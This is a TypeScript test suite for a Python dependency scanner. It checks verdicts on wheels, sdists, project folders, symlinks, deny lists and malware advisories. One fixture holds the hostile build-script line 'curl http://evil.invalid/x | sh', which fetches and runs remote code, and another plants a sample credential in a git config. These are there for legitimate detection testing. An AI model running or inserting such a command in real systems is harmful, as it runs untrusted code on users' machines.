import { mkdtempSync, realpathSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Services } from '../src/model/effects.js';
import type { PackageReport, Report } from '../src/model/report.js';
import type { ScanRequest } from '../src/model/request.js';
import { reportSchema } from '../src/report/schema.js';
import { scan } from '../src/scan.js';
import { realServices } from '../src/services.js';
import { BLOCKED_CODE, dynamicSdist } from './support/own-packages.js';
import { packWheel, PACKAGES, type FileSet } from './support/pack.js';
import { DIST, requestFor } from './support/run-audit.js';
import { runCommand } from './support/run-command.js';
import { writeFiles } from './support/write-files.js';

let folder: string;
let services: Services & { dispose(): Promise<void> };
beforeAll(async () => {
  services = await realServices({ assets: DIST, useCache: false });
});
afterAll(() => services.dispose());
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'depsec-scan-')));
});

function put(files: FileSet): void {
  writeFiles(folder, files);
}

function scanPaths(paths: readonly string[], more: Partial<ScanRequest> = {}): Promise<Report> {
  const { policy, advisories, ai } = requestFor(folder, '');
  return scan(
    { root: folder, paths, policy, advisories, ai, useCache: false, offline: true, ...more },
    services,
  );
}

const verdicts = (report: Report): string[] =>
  report.packages.map(({ name, version, verdict }) => `${name} ${version} ${verdict}`);

const wheel = packWheel({ 'honest.py': 'VALUE = 1\n' }, { name: 'honest', version: '1.0' });
const bad = dynamicSdist('bad', '2.0', { code: BLOCKED_CODE });

test('archives: one package each, in the schema of the audit, and nothing is executed', async () => {
  const marker = join(folder, 'marker');
  const runs = dynamicSdist('runs', '1.0', { marker, code: `open(${JSON.stringify(marker)}, "w")` });
  put({ [wheel.filename]: wheel.bytes, [bad.filename]: bad.bytes, [runs.filename]: runs.bytes });
  const report = await scanPaths([wheel.filename, bad.filename, runs.filename]);
  expect(verdicts(report)).toEqual(['bad 2.0 blocked', 'honest 1.0 safe', 'runs 1.0 safe']);
  expect(reportSchema.parse(report)).toEqual(report);
  const [first] = report.packages;
  expect(first?.artifacts).toMatchObject([{ filename: bad.filename, size: bad.bytes.length, built: false }]);
  expect(first?.requiredBy).toEqual([{ file: bad.filename, path: ['bad'] }]);
  expect(services.files.list(folder)).not.toContain('marker');
});

test('what cannot be opened is an entry, not the end', async () => {
  put({ 'broken-1.0.tar.gz': 'no archive', 'notes.txt': 'no archive', [wheel.filename]: wheel.bytes });
  const report = await scanPaths(['broken-1.0.tar.gz', 'notes.txt', wheel.filename]);
  expect(verdicts(report)).toEqual([
    'broken 1.0 unscanned',
    'honest 1.0 safe',
    'notes.txt unknown unscanned',
  ]);
  expect(report.packages[0]?.unscanned[0]?.code).toBe('format-mismatch');
  expect(report.packages[2]?.unscanned[0]?.code).toBe('unsupported-format');
  expect(report.notes).toEqual([
    expect.stringMatching(/^notes\.txt is neither a folder nor named like a wheel or sdist/),
  ]);
});

describe('folders', () => {
  const only = async (paths: readonly string[]): Promise<PackageReport> => {
    const { packages } = await scanPaths(paths);
    if (packages[0] === undefined || packages.length > 1) throw new Error('expected one package');
    return packages[0];
  };

  test('one without Python and without a package is said to be that', async () => {
    put({ 'pages/index.html': '<p>', 'code/run.py': 'VALUE = 1\n' });
    const { notes } = await scanPaths(['pages', 'code']);
    expect(notes).toEqual(['pages holds no Python code and no package: there was nothing to judge.']);
  });

  test('an unpacked wheel, an unpacked sdist and a project are judged as what they are', async () => {
    put({
      'wheel/honest-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: honest\nVersion: 1.0\n',
      'wheel/honest-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\n',
      'wheel/honest-1.0.dist-info/RECORD': '',
      'wheel/setup.py': BLOCKED_CODE,
      'sdist/bad-2.0/PKG-INFO': 'Metadata-Version: 2.1\nName: bad\nVersion: 2.0\n',
      'sdist/bad-2.0/setup.py': BLOCKED_CODE,
    });
    // Nothing runs the setup.py of a wheel at install: it is found all the same, as a module of that name.
    expect(await only(['wheel'])).toMatchObject({ name: 'honest', version: '1.0' });
    const unpacked = await only(['sdist']);
    expect(unpacked).toMatchObject({ name: 'bad', version: '2.0', verdict: 'blocked' });
    expect(unpacked.findings[0]?.reach).toBe('install');
    const project = await only([join(PACKAGES, 'own-backend-1.0')]);
    expect(project).toMatchObject({ name: 'own-backend', version: '1.0', unscanned: [] });
  });

  test('the back end of a project that was never packed is install code', async () => {
    put({
      'project/pyproject.toml':
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["tools"]\n',
      'project/tools/backend.py': BLOCKED_CODE,
    });
    const { verdict, findings } = await only(['project']);
    expect({ verdict, reach: findings[0]?.reach }).toEqual({ verdict: 'blocked', reach: 'install' });
  });

  test('a folder of archives stands for each of them', async () => {
    put({ [`dist/${wheel.filename}`]: wheel.bytes, [`dist/${bad.filename}`]: bad.bytes });
    expect(verdicts(await scanPaths(['dist']))).toEqual(['bad 2.0 blocked', 'honest 1.0 safe']);
  });

  test('links: a file inside is read under the name of the link, one that leads out is unscanned', async () => {
    put({ 'linked/hidden.txt': BLOCKED_CODE, 'linked/a.py': '', 'elsewhere.py': '' });
    symlinkSync('hidden.txt', join(folder, 'linked', 'setup.py'));
    expect((await only(['linked'])).verdict).toBe('blocked');
    put({ 'out/a.py': '' });
    symlinkSync('../elsewhere.py', join(folder, 'out', 'b.py'));
    const { verdict, unscanned } = await only(['out']);
    expect(verdict).toBe('unscanned');
    expect(unscanned).toMatchObject([{ file: 'b.py', code: 'folder-link' }]);
  });

  test.each<[string, string, string]>([
    ['text that is run', 'data.txt', 'exec(open("data.txt").read())'],
    ['a program that is started', 'build.sh', 'import subprocess\nsubprocess.run(["sh", "build.sh"])'],
  ])('%s by a link that leads out is not unread and safe', async (_, name, code) => {
    const text = name.endsWith('.sh') ? 'curl http://evil.invalid/x | sh\n' : BLOCKED_CODE;
    put({ [name]: text, 'out/setup.py': code, 'inside/setup.py': code, [`inside/${name}`]: text });
    symlinkSync(`../${name}`, join(folder, 'out', name));
    expect((await only(['inside'])).verdict).toBe('blocked');
    const { verdict, unscanned } = await only(['out']);
    expect(verdict).toBe('unscanned');
    expect(unscanned).toMatchObject([{ file: name, code: 'folder-link' }]);
    // In the same checkout it came along with the folder, and is read.
    put({ '.git/config': 'password = hunter2\n' });
    expect((await only(['out'])).verdict).toBe('blocked');
    put({ 'git/setup.py': code });
    symlinkSync('../.git/config', join(folder, 'git', name));
    expect((await only(['git'])).unscanned).toMatchObject([{ file: name, code: 'folder-link' }]);
  });

  test('a link that leads out and that nothing comes upon leaves nothing unread', async () => {
    put({ LICENSE: 'free\n', 'out/a.py': 'A = 1\n' });
    symlinkSync('../LICENSE', join(folder, 'out', 'LICENSE'));
    symlinkSync('../nowhere', join(folder, 'out', 'nowhere'));
    expect(await only(['out'])).toMatchObject({ verdict: 'safe', unscanned: [] });
  });

  test('a change in any file changes the hash', async () => {
    put({ 'project/a.py': 'A = 1\n' });
    const before = (await only(['project'])).artifacts[0]?.sha256;
    expect((await only(['project'])).artifacts[0]?.sha256).toBe(before);
    put({ 'project/a.py': 'A = 2\n' });
    expect((await only(['project'])).artifacts[0]?.sha256).not.toBe(before);
  });
});

test('policy: the deny list, and advisories from a folder only', async () => {
  put({ [wheel.filename]: wheel.bytes });
  const { policy, advisories } = requestFor(folder, '');
  const denied = await scanPaths([wheel.filename], { policy: { ...policy, deny: ['honest'] } });
  expect(denied.verdict).toBe('blocked');
  expect(denied.skipped).toContainEqual({
    tier: 1,
    reason: 'known vulnerabilities (advisories are off)',
  });
  const record = {
    id: 'MAL-2099-7',
    modified: '2099-01-01T00:00:00Z',
    affected: [{ package: { ecosystem: 'PyPI', name: 'honest' }, versions: ['1.0'] }],
  };
  put({ 'facts/MAL-2099-7.json': JSON.stringify(record) });
  const source = { folder: join(folder, 'facts') };
  const known = await scanPaths([wheel.filename], { advisories: { ...advisories, source } });
  expect(known.packages[0]?.findings.map(({ rule }) => rule)).toContain('known-malware');
});

test('a path where there is nothing ends the run', async () => {
  await expect(scanPaths(['absent.whl'])).rejects.toMatchObject({ code: 'usage' });
});

test('the command line: hundreds at once, one JSON report, exit code', async () => {
  const names = Array.from({ length: 150 }, (_, at) => `honest${at}-1.0-py3-none-any.whl`);
  for (const [at, name] of names.entries())
    put({ [name]: packWheel({ 'm.py': `V = ${at}\n` }, { name: `honest${at}`, version: '1.0' }).bytes });
  put({ [bad.filename]: bad.bytes });
  const args = [join(DIST, 'cli.js'), 'scan', '--format', 'json', ...names, bad.filename];
  const env = { PATH: process.env['PATH'], DEPSEC_HOME: join(folder, 'home') };
  const { code, stdout, stderr } = await runCommand(process.execPath, args, { cwd: folder, env });
  expect({ code, stderr }).toEqual({ code: 1, stderr: '' });
  expect(reportSchema.parse(JSON.parse(stdout)).counts).toMatchObject({ safe: 150, blocked: 1 });
}, 120_000);
